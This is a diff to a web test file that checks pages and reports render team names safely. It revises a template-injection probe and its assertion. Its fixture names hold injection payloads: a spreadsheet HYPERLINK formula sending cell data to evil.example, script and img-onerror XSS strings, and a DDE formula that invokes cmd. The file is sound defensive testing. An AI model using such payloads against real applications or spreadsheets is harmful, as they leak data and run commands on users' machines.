@@ -17,7 +17,7 @@ from tests.web.conftest import Browser
 NAMES = {
     "Toms team": '=HYPERLINK("http://evil.example/?"&A1)',
     "Second light": "<img src=x onerror=alert(1)>",
-    "Third eye": "{{ 7 * 7 }}</script><script>alert(2)</script>",
+    "Third eye": "{{ 4 * 'zx' }}</script><script>alert(2)</script>",
     "Fourth wall": "@SUM(1+1)*cmd|' /C calc'!A0",
 }
 JUDGE = JudgeLine("+<script>alert(3)</script>", "jude@example.org")
@@ -53,7 +53,7 @@ def closed(folder, monkeypatch):
 def assert_harmless(page: str) -> None:
     for markup in ("<img src=x", "<script>alert", "</script><script>"):
         assert markup not in page
-    assert "49</" not in page
+    assert "zxzxzxzx" not in page, "a name was computed"  # what no hash or number can hold by chance
 
 
 def test_pages_and_report_show_names_as_text(closed):
